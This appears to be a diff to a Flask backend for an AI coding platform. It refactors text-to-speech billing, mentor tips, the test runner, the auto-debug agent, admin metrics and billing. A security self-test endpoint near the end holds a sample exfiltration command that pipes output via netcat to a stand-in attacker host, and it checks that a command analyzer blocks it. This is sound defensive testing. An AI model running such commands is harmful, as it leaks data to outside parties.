-    voice_id = data.get("voice_id", "21m00Tcm4TlvDq8ikWAM") # Rachel default
+    voice_id = data.get("voice_id") or tts_cache.DEFAULT_VOICE_ID
     user_key = request.headers.get("X-ElevenLabs-Key")
     
     api_key = user_key or os.environ.get("ELEVENLABS_API_KEY")
@@ -1052,32 +1110,32 @@ def tts():
         return jsonify({"error": "No text provided"}), 400
         
     try:
-        # ElevenLabs Text-to-Speech
-        url = f"https://api.elevenlabs.io/v1/text-to-speech/{voice_id}"
-        headers = {
-            "Accept": "audio/mpeg",
-            "Content-Type": "application/json",
-            "xi-api-key": api_key
-        }
-        payload = {
-            "text": text,
-            "model_id": "eleven_monolingual_v1",
-            "voice_settings": {
-                "stability": 0.5,
-                "similarity_boost": 0.5
-            }
-        }
-        
-        response = requests.post(url, json=payload, headers=headers, stream=True, timeout=30)
-        
-        if response.ok:
-            return Response(response.iter_content(chunk_size=1024), content_type="audio/mpeg")
-        else:
-            return jsonify({"error": response.text}), response.status_code
-            
+        # Cached sentences cost nothing; the rest are synthesized in parallel
+        chunks, billed_chars = tts_cache.tts.synthesize(text, api_key, voice_id=voice_id)
+        audio = tts_cache.first_chunk(chunks)
+    except tts_cache.TTSError as e:
+        return jsonify({"error": str(e)}), e.status_code
     except Exception as e:
         return jsonify({"error": str(e)}), 500
 
+    def generate():
+        try:
+            for chunk in audio:
+                yield chunk
+        finally:
+            # Every billed sentence was sent upstream before the first byte, so it
+            # is paid even if the client disconnects mid-stream (close() lands here).
+            # Only the system key draws on the user's voice allowance
+            user_id = session.get("github_user")
+            if billed_chars and not user_key and user_id:
+                user = repository.get_user(user_id)
+                if user:
+                    user.voice_chars_left = max(0, (user.voice_chars_left or 0) - billed_chars)
+                    db.session.commit()
+
+    return Response(stream_with_context(generate()), content_type="audio/mpeg",
+                    headers={"X-TTS-Billed-Chars": str(billed_chars)})
+
 # --- Mentor Routes ---
 import mentor as mentor_module
 
@@ -1086,14 +1144,51 @@ def mentor_log():
     data = request.get_json()
     event = data.get("event")
     if event:
-        mentor_module.mentor.log_event(event)
+        log_mentor(event, data.get("project_name"), kind=data.get("kind") or mentor_module.NOTE)
     return jsonify({"status": "logged"})
 
 @app.route("/api/mentor/tip", methods=["GET"])
 def get_mentor_tip():
+    # Latest published tip; tips are generated in the background, never here
     project_name = request.args.get("project_name", "Unknown Project")
-    tip = mentor_module.mentor.generate_tip(project_name)
-    return jsonify({"tip": tip})
+    seq, tip = mentor_module.mentor.latest_tip(caller_id(), project_name)
+    return jsonify({"tip": tip, "id": seq})
+
+@app.route("/api/mentor/stream", methods=["GET"])
+@limiter.exempt
+def mentor_stream():
+    """Server-Sent Events stream of mentor tips for a project."""
+    project_name = request.args.get("project_name")
+    user_id = caller_id()
+    if not project_name:
+        return jsonify({"error": "Project name required"}), 400
+    
+    # Only tips published from now on, unless EventSource is resuming
+    after = last_event_id()
+    if after is None:
+        after = mentor_module.mentor.latest_seq()
+    
+    def generate(after):
+        with sse_window(user_id) as seconds:
+            deadline = time.monotonic() + seconds
+            # The id makes a reconnect resume here even when no tip was sent
+            yield f"retry: {SSE_RETRY_MS}\nid: {after}\n\n"
+            while True:
+                tips = mentor_module.mentor.wait_tips(user_id, project_name, after,
+                                                      timeout=min(15, max(0, deadline - time.monotonic())))
+                for seq, tip in tips:
+                    yield f"id: {seq}\ndata: {json.dumps({'tip': tip})}\n\n"
+                    after = seq
+                if time.monotonic() >= deadline:
+                    return
+                if not tips:
+                    yield ": keep-alive\n\n"
+    
+    return Response(
+        stream_with_context(generate(after)),
+        mimetype="text/event-stream",
+        headers={"Cache-Control": "no-cache", "X-Accel-Buffering": "no"}
+    )
 
 # --- Sandbox Routes ---
 # Track running servers: {project_name: {"pid": int, "port": int, "proc": Popen}}
@@ -1115,6 +1210,7 @@ def sandbox_start():
             return jsonify({"url": f"http://localhost:{info['port']}", "status": "running"})
         else:
             del running_servers[project_name]
+            metrics.SANDBOXES_ACTIVE.set(len(running_servers))
             
     # Find free port (start at 8000, try up to 8100)
     import socket
@@ -1148,8 +1244,10 @@ def sandbox_start():
         )
         
         running_servers[project_name] = {"pid": proc.pid, "port": port, "proc": proc}
+        metrics.SANDBOX_STARTS.inc()
+        metrics.SANDBOXES_ACTIVE.set(len(running_servers))
         
-        mentor_module.mentor.log_event(f"User started Live Sandbox on port {port}")
+        log_mentor(f"User started Live Sandbox on port {port}", project_name)
         
         return jsonify({"url": f"http://localhost:{port}", "status": "started"})
         
@@ -1158,103 +1256,53 @@ def sandbox_start():
 
 @app.route("/api/test/run", methods=["POST"])
 def run_tests():
-    data = request.get_json()
+    data = request.get_json() or {}
     project_name = data.get("project_name")
     
-    project_root = get_secure_project_path(project_name)
-    src_dir = os.path.join(project_root, "src") # Tests usually here or root?
-    
-    # Detect Test Framework
-    cmd = []
-    if os.path.exists(os.path.join(project_root, "package.json")):
-        cmd = ["npm", "test"]
-    elif os.path.exists(os.path.join(src_dir, "requirements.txt")) or any(f.endswith(".py") for f in os.listdir(src_dir)):
-        # Default to pytest
-        cmd = ["pytest"] # Requires pytest installed
-    else:
-        return jsonify({"output": "No testing framework detected (package.json or pytest).", "exit_code": 1})
-        
     try:
-        import subprocess
-        # Run tests
-        # Capture stdout and stderr
-        # CWD should be src_dir for python usually, or root for npm
-        cwd = project_root if cmd[0] == "npm" else src_dir
-        
-        result = subprocess.run(
-            cmd, 
-            cwd=cwd,
-            stdout=subprocess.PIPE,
-            stderr=subprocess.STDOUT,
-            timeout=60,
-            text=True
-        )
-        
-        return jsonify({
-            "output": result.stdout,
-            "exit_code": result.returncode
-        })
-    except Exception as e:
-         return jsonify({"output": f"Execution Failed: {str(e)}", "exit_code": -1})
+        project_root = get_secure_project_path(project_name)
+    except ValueError as e:
+        return jsonify({"output": f"Error: {str(e)}", "exit_code": 1}), 400
+    
+    log_pipeline.bind_job(log_pipeline.new_job_id("test"))
+    
+    # Only tests whose import closure changed are run, in parallel shards;
+    # per-test results stream back as NDJSON (see test_runner)
+    return Response(
+        stream_with_context(mentor_tap(
+            redaction.redact_stream(test_runner.run(project_root, full=bool(data.get("full")))), project_name)),
+        mimetype='application/x-ndjson'
+    )
 
 @app.route("/api/debug", methods=["POST"])
 def auto_debug():
-    data = request.get_json()
+    data = request.get_json() or {}
     project_name = data.get("project_name")
+    failures = data.get("failures")  # Structured "test" events from /api/test/run
     error_log = data.get("error_log")
     
-    if not all([project_name, error_log]):
+    if not project_name or not (failures or error_log):
          return jsonify({"error": "Missing info"}), 400
          
     try:
-        # 1. Ask AI to Fix
-        from builder import client, apply_agent_edit
-        
-        # Read files to give context? For now, we rely on error log containing file paths.
-        # Or we give file listing.
         project_root = get_secure_project_path(project_name)
         src_dir = os.path.join(project_root, "src")
+        if not failures:
+            failures = debugger.failures_from_log(error_log)
         
-        system_prompt = f"""
-        You are an expert Debugging Agent.
-        Analyze the Test Output below and fix the code.
-        Project: {project_name}
-        
-        Output MUST be a JSON object with:
-        {{
-            "thought": "Analysis of the error...",
-            "action": "edit",
-            "file": "filename.py",
-            "content": "Full corrected content of the file"
-        }}
-        """
-        
-        response = client.chat.completions.create(
-            model="kimi-k2-0905-preview",
-            messages=[
-                {"role": "system", "content": system_prompt},
-                {"role": "user", "content": f"TEST OUTPUT:\n{error_log}"}
-            ],
-            response_format={"type": "json_object"}
-        )
-        
-        import json
-        reply = response.choices[0].message.content
-        fix_data = json.loads(reply)
-        
-        file_path = fix_data.get("file")
-        content = fix_data.get("content")
-        thought = fix_data.get("thought")
+        # One concurrent fix per root file, each with only its own chunks
+        fixes = debugger.debug(secure_filename(project_name), src_dir, failures)
+        if not fixes:
+            return jsonify({"status": "failed", "message": "Could not locate the failing source files.", "fixes": []})
         
-        if file_path and content:
-            success, msg = apply_agent_edit(project_name, file_path, content)
-            return jsonify({
-                "status": "fixed" if success else "failed", 
-                "message": msg,
-                "thought": thought
-            })
-        
-        return jsonify({"status": "failed", "message": "AI could not generate a fix action."})
+        fixed = [fix for fix in fixes if fix["status"] == "fixed"]
+        status = "fixed" if len(fixed) == len(fixes) else ("partial" if fixed else "failed")
+        return jsonify({
+            "status": status,
+            "message": "; ".join(fix.get("message") or "" for fix in fixes),
+            "thought": "\n".join(f"{fix['file']}: {fix.get('thought') or ''}" for fix in fixes),
+            "fixes": fixes
+        })
         
     except Exception as e:
         return jsonify({"error": str(e)}), 500
@@ -1272,7 +1320,8 @@ def sandbox_stop():
         except:
             pass
         del running_servers[project_name]
-        mentor_module.mentor.log_event("User stopped Live Sandbox")
+        metrics.SANDBOXES_ACTIVE.set(len(running_servers))
+        log_mentor("User stopped Live Sandbox", project_name)
         return jsonify({"status": "stopped"})
         
     return jsonify({"status": "not_running"})
@@ -1295,8 +1344,6 @@ def chat_with_agent():
         
         # 2. Call LLM
         # We use a chat completion here
-        from builder import client # Reuse client
-        
         system_prompt = f"You are the {agent_role} for the project '{project_name}'. Answer the user's questions based on your role."
         
         # 1.5 Get Project Context (File Structure)
@@ -1333,9 +1380,9 @@ def chat_with_agent():
         edit_result = None
         
         for attempt in range(max_retries + 1):
-            response = client.chat.completions.create(
-                model="kimi-k2-0905-preview",
-                messages=messages,
+            response = model_router.complete(
+                "chat",
+                messages,
                 temperature=0.7
             )
             
@@ -1380,7 +1427,7 @@ def chat_with_agent():
                         pass
                     except Exception as e:
                         # Other errors during edit application/parsing
-                        print(f"Error during edit action processing: {e}")
+                        logger.warning(f"Error during edit action processing: {e}")
                         pass
             
             # If no edit or basic reply, or edit was successful, break
@@ -1424,6 +1471,7 @@ def check_admin_auth():
     return True
 
 @app.route("/admin")
+@database.read_only
 def admin_dashboard():
     if not check_admin_auth():
         return Response(
@@ -1431,35 +1479,62 @@ def admin_dashboard():
             'You have to login with proper credentials', 401,
             {'WWW-Authenticate': 'Basic realm="Login Required"'})
     
-    # Analytics
-    total_users = User.query.count()
-    active_subs = User.query.filter_by(is_subscribed=True).count()
-    projects_count = Project.query.count()
-    recent_users = User.query.order_by(User.trial_start_date.desc()).limit(10).all()
+    # Analytics: counters are maintained on write (see stats.py), one lookup here
+    recent_users = repository.recent_users(10)
     
     return render_template(
         "admin.html", 
-        total_users=total_users, 
-        active_subs=active_subs, 
-        projects_count=projects_count,
-        recent_users=recent_users
+        recent_users=recent_users,
+        latency=tracing.collector.get_stats(),
+        usage_tiers=usage.tier_rollup(),
+        **stats.snapshot()
     )
 
 
+@app.route("/api/admin/llm-stats")
+def admin_llm_stats():
+    if not check_admin_auth():
+        return jsonify({"error": "Unauthorized"}), 401
+    return jsonify({
+        "models": model_router.router.get_stats(),
+        "scheduler": llm_scheduler.scheduler.get_stats(),
+        "usage": {"tiers": usage.tier_rollup(), "writer": usage.recorder.get_stats()}
+    })
+
+
+@app.route("/api/usage")
+def llm_usage():
+    # This month's LLM spend against the user's package budget
+    return jsonify(usage.user_summary(caller_id()))
+
+
+@app.route("/metrics")
+@limiter.exempt
+def prometheus_metrics():
+    # Scraped with the admin basic auth, or `Authorization: Bearer $METRICS_TOKEN`
+    token = os.getenv("METRICS_TOKEN")
+    if not (check_admin_auth() or (token and request.headers.get("Authorization") == f"Bearer {token}")):
+        return Response("Unauthorized", 401, {"WWW-Authenticate": 'Basic realm="Metrics"'})
+    body, content_type = metrics.render()
+    return Response(body, content_type=content_type)
+
+
+@app.route("/api/admin/latency")
+def admin_latency():
+    # Span latency for this worker process (see tracing.py)
+    if not check_admin_auth():
+        return jsonify({"error": "Unauthorized"}), 401
+    return jsonify(tracing.collector.get_stats())
+
+
 # ------------------------------------------------------------------
 # Billing & Subscription Routes
 # ------------------------------------------------------------------
 @app.route("/api/packages", methods=["GET"])
+@database.read_only
 def get_packages():
-    # Seed if empty
-    if Package.query.count() == 0:
-        db.session.add(Package(id=1, name="Starter", price=0.0, limit_builds=1, limit_voice_chars=0))
-        db.session.add(Package(id=2, name="Pro", price=29.0, limit_builds=50, limit_voice_chars=50000))
-        db.session.add(Package(id=3, name="Enterprise", price=199.0, limit_builds=9999, limit_voice_chars=999999))
-        db.session.commit()
-    
-    pkgs = Package.query.all()
-    return jsonify([{"id": p.id, "name": p.name, "price": p.price} for p in pkgs])
+    # Seeded by migration 4; served from the reference-data cache
+    return jsonify(repository.list_packages())
 
 @app.route("/api/billing/subscribe", methods=["POST"])
 def subscribe_package():
@@ -1468,12 +1543,12 @@ def subscribe_package():
     
     # Mock Auth: Use 'test_user' for now
     user_id = "test_user" 
-    user = User.query.get(user_id)
+    user = repository.get_user(user_id)
     if not user:
         user = User(username=user_id)
         db.session.add(user)
     
-    pkg = Package.query.get(pkg_id)
+    pkg = repository.get_package(pkg_id)
     if not pkg: return jsonify({"status": "error", "message": "Invalid Package"}), 400
     
     # Update User
@@ -1491,16 +1566,12 @@ def subscribe_package():
 
 @app.route("/billing")
 def billing_page():
-    user = User.query.get("test_user") 
-    if not user: 
-        user = User(username="test_user", package_id=1)
-        db.session.add(user)
-        db.session.commit()
+    user = repository.get_or_create_user("test_user", package_id=1)
         
-    txns = Transaction.query.filter_by(user_id=user.username).order_by(Transaction.timestamp.desc()).all()
+    # Packages come joined in, not one query per transaction
+    txns = repository.user_transactions(user.username)
     for t in txns:
-        p = Package.query.get(t.package_id)
-        t.package_name = p.name if p else "Unknown"
+        t.package_name = t.package.name if t.package else "Unknown"
         
     return render_template("billing.html", user=user, transactions=txns)
 
@@ -1524,15 +1595,18 @@ def test_security():
         "ls | nc attacker.com 4444"
     ]
     
-    sanitizer = CommandSanitizer()
+    # Separate instance so the probe doesn't count towards anyone's burst history
+    probe = command_analyzer.CommandAnalyzer()
     results = []
     
     for test_case in test_cases:
-        result = sanitizer.sanitize_input(test_case)
+        verdict = probe.analyze(test_case, "security-test")
         results.append({
             "input": test_case,
-            "result": "BLOCKED" if result is None else "ALLOWED",
-            "sanitized": result
+            "result": "ALLOWED" if verdict.allowed else "BLOCKED",
+            "sanitized": verdict.sanitized,
+            "risk_score": verdict.risk_score,
+            "patterns_found": verdict.patterns_found
         })
     
     return jsonify({